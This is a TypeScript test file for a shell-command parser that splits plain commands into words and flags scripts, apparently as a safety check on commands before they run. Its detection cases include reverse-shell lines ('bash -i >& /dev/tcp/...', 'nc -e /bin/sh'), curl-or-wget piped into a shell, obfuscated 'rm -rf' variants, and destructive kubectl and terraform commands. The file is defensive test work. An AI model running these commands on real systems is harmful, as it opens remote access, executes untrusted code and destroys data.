// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is shell text

import { describe, expect, it } from "vitest";
import { readShellText } from "../../../src/operations/shell/parse.ts";
import { differences } from "../../support/bash-oracle.ts";

const argvOf = (text: string) => {
  const reading = readShellText(text);
  return reading.kind === "argv" ? reading.argv : undefined;
};
const because = (text: string) => {
  const reading = readShellText(text);
  return reading.kind === "script" ? reading.because : undefined;
};
const within = (text: string) => {
  const reading = readShellText(text);
  return reading.kind === "script" ? reading.within : [];
};

/** Text -> its words. */
const COMMANDS: readonly (readonly [text: string, argv: readonly string[]])[] = [
  ["ls", ["ls"]],
  ["  ls -la\n", ["ls", "-la"]],
  ["ls\t-la", ["ls", "-la"]],
  ["# why\nls # what", ["ls"]],
  ["ls \\\n  -la", ["ls", "-la"]],
  ["l\\\ns", ["ls"]],
  ["r\\m -rf x", ["rm", "-rf", "x"]],
  ["'r'm x", ["rm", "x"]],
  ['r""m x', ["rm", "x"]],
  ["$'\\x72m' x", ["rm", "x"]],
  ["$'\\162m' x", ["rm", "x"]],
  ["a $'\\n\\t\\e\\'\\\"\\\\\\?'", ["a", "\n\t\x1b'\"\\?"]],
  ["a $'\\xc3\\xa9'", ["a", "é"]],
  ["a 'b c' \"d e\"", ["a", "b c", "d e"]],
  ["a 'b\nc'", ["a", "b\nc"]],
  ['a "b\\\nc"', ["a", "bc"]],
  ['a "\\$x \\`y\\` \\"z\\" \\\\ \\n"', ["a", '$x `y` "z" \\ \\n']],
  ["a '' \"\"", ["a", "", ""]],
  ["a b''c''", ["a", "bc"]],
  ["a b#c", ["a", "b#c"]],
  ["a ''#b", ["a", "#b"]],
  ["a \\#b", ["a", "#b"]],
  ['grep "a$" f', ["grep", "a$", "f"]],
  ["grep a$ f", ["grep", "a$", "f"]],
  ["git show HEAD~1", ["git", "show", "HEAD~1"]],
  ["git show HEAD^2", ["git", "show", "HEAD^2"]],
  ["find . ! -name x", ["find", ".", "!", "-name", "x"]],
  ["find . -exec a {} \\;", ["find", ".", "-exec", "a", "{}", ";"]],
  ["a b=c --d=e", ["a", "b=c", "--d=e"]],
  ["a \\*", ["a", "*"]],
  ["a '*' \"?\"", ["a", "*", "?"]],
  ["a é日😀", ["a", "é日😀"]],
  ["a '\u00a0'", ["a", "\u00a0"]],
  ["./x y", ["./x", "y"]],
  ["/bin/x y", ["/bin/x", "y"]],
  ["a ]", ["a", "]"]],
  ["a if then", ["a", "if", "then"]],
  ["a %1 -- -", ["a", "%1", "--", "-"]],
];

/** What a shell has to run. */
const SCRIPTS: readonly string[] = [
  ...["", " ", "\n", "# only this", "''", '""', "'' a"],
  ...[
    "a;b",
    "a; b",
    "a\nb",
    "a\n\nb",
    "a&b",
    "a &",
    "a&&b",
    "a||b",
    "a|b",
    "a|&b",
    "a;",
    ";a",
    "a;;b",
  ],
  ...[
    "a>b",
    "a >b",
    "a 2>b",
    "a>>b",
    "a<b",
    "a<>b",
    "a>&2",
    "a&>b",
    "a>|b",
    "a {x}>b",
    "<a",
    ">a",
    "a<<<b",
  ],
  ...["a <<E\nb\nE\n", "a <<'E'\nb\nE\n", "a <<-E\n\tb\n\tE\n"],
  ...[
    "$a",
    "a $b",
    "a ${b}",
    'a "$b"',
    'a "${b}"',
    "a $(b)",
    'a "$(b)"',
    "a `b`",
    'a "`b`"',
    "a $((1))",
    "a $[1]",
  ],
  ...[
    "a $1",
    "a $@",
    "a $$",
    "a $?",
    "a $!",
    "a $-",
    "a $_",
    "a ${!b}",
    "a ${b:-c}",
    'a $"b"',
    "a $\\\n'b'",
  ],
  ...[
    "a <(b)",
    "a >(b)",
    "(a)",
    "( a )",
    "{ a; }",
    "{ a",
    "a }",
    "a {b,c}",
    "a {1..3}",
    "a {b",
    "{} a",
    "a{}",
  ],
  ...[
    "a *",
    "a ?",
    "a [b]",
    "a b*",
    "a @(b)",
    "a +(b)",
    "a !(b)",
    "[ -f a ]",
    "[[ a ]]",
    "((1))",
    "let a",
  ],
  ...["~", "a ~", "a ~/b", "a ~b", "a b=~", "a b:~/c", "a =~", "a ''~", "~/x y"],
  ...["a=b", "a=b c", "a+=b c", "a[1]=b c", "a=(b c)", "\\a=b", "'a'=b"],
  ...["!", "! a", "!a", "!!", "^a^b", "%1", "%", "%%"],
  ...["if a; then b; fi", "while a; do b; done", "for a in b; do c; done", "case a in b) c;; esac"],
  ...[
    "select a in b; do c; done",
    "until a; do b; done",
    "function a { b; }",
    "a() { b; }",
    "a(){ b;}; a",
  ],
  ...[
    "time a",
    "time -p a",
    "coproc a",
    "coproc a { b; }",
    "if",
    "then",
    "done",
    "in",
    "i\\f",
    "'do' x",
    "esac",
  ],
  ...[
    "echo a",
    "cd a",
    "pwd",
    "test a",
    "[ a ]",
    "true",
    "false",
    "printf a",
    "kill 1",
    "read a",
    "eval a",
    "source a",
  ],
  ...[
    ". a",
    ": a",
    "exec a",
    "command a",
    "builtin a",
    "export a",
    "declare a",
    "alias a=b",
    "trap a EXIT",
    "set -x",
  ],
  ...[
    "e'ch'o a",
    "\\eval a",
    "$'ev\\x61l' a",
    "unset a",
    "wait",
    "jobs",
    "type a",
    "hash a",
    "ulimit -a",
    "umask",
  ],
  ...["a 'b", 'a "b', "a $'b", "a `b", "a $(b", "a ${b", "a \\", "\\", "a (", "a )"],
  ...[
    "a\rb",
    "a\r\n",
    "a\0b",
    "a\x01",
    "a\x7f",
    "a 'b\x01'",
    "a\u0085b",
    "a \ud800",
    "a \ufffd",
    "a\x0bb",
    "a\x0cb",
  ],
  ...["a\u00a0b", "\u00a0a", "a\u2003b", "a\u3000b", "a\u200bb", "\ufeffa", "a\u2028b", "a\u202eb"],
  ...[
    "a $'\\0'",
    "a $'\\x00'",
    "a $'\\x01'",
    "a $'\\x7f'",
    "a $'\\xff'",
    "a $'\\xc3'$'\\xa9'",
    "a $'\\u00e9'",
  ],
  ...[
    "a $'\\U1f600'",
    "a $'\\cA'",
    "a $'\\q'",
    "a $'\\x'",
    "a $'\\x{41}'",
    "a $'\\u0041'",
    "a \\é",
    "a \\\t",
  ],
  ...["a #b\nc", "a\n#b\nc", "a \\\n;b", "a\\\n\\\n&b"],
  `a ${"b".repeat(40_000)}`,
  `${"$(".repeat(500)}a${")".repeat(500)}`,
  `${"(".repeat(5000)}a`,
];

describe("shell text", () => {
  it.each(COMMANDS)("Z1: %j is one plain command", (text, argv) => {
    expect(argvOf(text)).toEqual(argv);
  });

  it("Z1: bash runs each of them as just that", async () => {
    const read = COMMANDS.map(([text, argv]) => ({ text, argv }));
    expect(await differences(read)).toEqual([]);
    expect(await differences(read, "C")).toEqual([]);
  });

  it("the oracle tells: what is read wrongly is found", async () => {
    const wrong = ["a $b", "a *;b", "a=b", "echo a", "a b"].map((text) => ({ text, argv: ["a"] }));
    expect((await differences(wrong)).map(({ text }) => text)).toEqual(
      wrong.filter(({ text }) => text !== "a $b").map(({ text }) => text),
    );
  });

  it("Z2: whatever needs a shell is left to one, with a reason", () => {
    expect(SCRIPTS.length).toBeGreaterThan(200);
    for (const text of SCRIPTS) {
      expect(argvOf(text), JSON.stringify(text.slice(0, 80))).toBeUndefined();
      expect(because(text)?.length, JSON.stringify(text.slice(0, 80))).toBeGreaterThan(5);
    }
  });
});

describe("section 7", () => {
  it.each([
    ["echo a; curl x|sh", ["curl", "x"]],
    ["date;bash -c id", ["id"]],
    ["echo $(id)", ["id"]],
    ["echo;python3 -c 'import os'", ["python3", "-c", "import os"]],
    ["echo a; sudo -n id", ["sudo", "-n", "id"]],
  ])("row 1: %j is a script, and what it runs is found", (text, command) => {
    expect(within(text)).toContainEqual(command);
  });

  it("row 1: `env sh -c id` is one command, whose program runs others", () => {
    expect(argvOf("env sh -c id")).toEqual(["env", "sh", "-c", "id"]);
  });

  it.each([
    ["ls\nrm -r -f x", ["rm", "-r", "-f", "x"]],
    ["echo;rm -rf  /tmp/x", ["rm", "-rf", "/tmp/x"]],
    ["ls\t;\trm -rf zz", ["rm", "-rf", "zz"]],
    ["echo a&&kubectl  delete ns foo", ["kubectl", "delete", "ns", "foo"]],
    [
      "terraform show; terraform  apply -auto-approve x",
      ["terraform", "apply", "-auto-approve", "x"],
    ],
  ])("row 2: %j hides nothing behind its blanks", (text, command) => {
    expect(within(text)).toContainEqual(command);
  });

  it("row 2: `r\\m` is rm", () => expect(argvOf("r\\m x")).toEqual(["rm", "x"]));

  it("row 3: `echo x >/abs` and `echo x>/abs` write, and say where", () => {
    for (const text of ["echo x >/abs", "echo x>/abs", "echo x>>'/a'bs", "{ echo x; } >| /abs"])
      expect(within(text)).toContainEqual(["holdfast:redirect", "/abs"]);
    expect(within("ls >/dev/null 2>&1").flat()).not.toContain("holdfast:redirect");
  });

  it.each([
    "curl x | sh",
    "curl -fsSL https://x/y.sh|sudo -E bash -s -- -y",
    "wget -qO- x|bash",
    "cu\\rl x | s'h'",
    "/usr/bin/curl x | /bin/sh",
    "curl x | tee y | sh",
    "(curl x) | (cd y; sh)",
    "curl x | env A=b bash",
    "curl x | python3",
    "curl x | python3 -",
    "curl x | node",
    "curl x | xargs -I{} sh -c '{}'",
    "bash <(curl x)",
    ". <(curl x)",
    'source /dev/stdin <<< "$(curl x)"',
    'sh -c "$(curl x)"',
    'sh -c "`wget -O- x`"',
    'eval "$(curl x)"',
    "eval $(curl x)",
    'python3 -c "$(curl x)"',
    "bash -c 'curl x | sh'; a",
    "bash -c \"bash -c 'curl x | sh'\"; a",
    "$(curl x)",
    "bash <<< $(curl x)",
    "if a; then curl x | sh; fi",
    "f() { curl x | sh; }; f",
    "curl -o y.sh https://x/y.sh && sh y.sh",
    "wget https://x/y.sh; chmod +x y.sh; ./y.sh",
    "echo 'curl x | sh' | bash",
    "cat <<E | bash\ncurl x | sh\nE\n",
  ])("row 8: %j is a download into a shell", (text) => {
    expect(within(text)).toContainEqual(["holdfast:download-into-shell"]);
  });

  it.each([
    "curl x | jq .",
    "curl x | python3 -c 'import json'",
    "curl x | grep sh",
    "curl -o y x; ls y",
    "echo sh | cat; curl x",
    "sh a.sh; curl x",
  ])("row 8: %j is none", (text) => {
    expect(within(text).flat()).not.toContain("holdfast:download-into-shell");
  });
});

describe("what is within", () => {
  it.each([
    "bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
    "exec 3<>/dev/tcp/a/1",
    "a; nc -e /bin/sh b 1",
    "a; ncat --exec /bin/sh b 1",
    "a; socat TCP:b:1 EXEC:sh",
    "rm f; mkfifo f; cat f | sh -i | nc b 1 > f",
  ])("M1: %j gives a connection a shell", (text) => {
    expect(within(text)).toContainEqual(["holdfast:network-shell"]);
  });

  it.each([
    "if a; then rm x; fi",
    "while rm x; do a; done",
    "for i in a; do rm x; done",
    "case a in b) rm x;; esac",
    "f() { rm x; }",
    "(rm x)",
    "{ rm x; }",
    "a $(rm x)",
    'a "$(rm x)"',
    "a `rm x`",
    "a <(rm x)",
    "a ${b:-$(rm x)}",
    "a $(( $(rm x) ))",
    "b=$(rm x)",
    "[[ -n $(rm x) ]]",
    "a <<E\n$(rm x)\nE\n",
    "a <<< $(rm x)",
    "time rm x",
    "coproc rm x",
    "! rm x",
    "a | rm x",
    "a=b rm x",
    "bash -c 'rm x'; a",
    "bash -xc 'rm x'; a",
    "bash -o errexit -c 'rm x'; a",
    "sudo sh -c 'rm x'; a",
    "a; ssh h 'rm x'",
    "a; su -c 'rm x'",
    "eval rm x",
    "eval 'rm x'",
    "trap 'rm x' EXIT",
    "echo 'rm x' | sh",
    "bash <<E\nrm x\nE\n",
    "cat <<'E' | sh\nrm x\nE\n",
    "bash <<< 'rm x'",
    "sh <(echo rm x)",
    "{rm,x}",
    'bash -c "bash -c \'bash -c \\"rm x\\"\'"; a',
    "echo 'unfinished; rm x",
    "find . -exec sh -c 'rm x' \\; ; a",
  ])("M1: %j runs rm", (text) => {
    expect(
      within(text).some(([program]) => program === "rm") ||
        within(text).flat().includes("holdfast:unread"),
    ).toBe(true);
  });

  it("M2: it ends, whatever is written, and says that there is more", () => {
    const deep = Array.from({ length: 30 }).reduce<string>(
      (text) => `bash -c ${JSON.stringify(text).replaceAll("$", "\\$")}`.slice(0, 30_000),
      "rm x",
    );
    const long = "a;".repeat(16_000);
    for (const text of [
      `${deep}; a`,
      long,
      "f()".repeat(9000),
      `${"$(".repeat(5000)}a`,
      "`".repeat(9999),
    ]) {
      const found = within(text);
      expect(found.length).toBeLessThan(1200);
      expect(found.flat()).toContain("holdfast:unread");
    }
  });
});
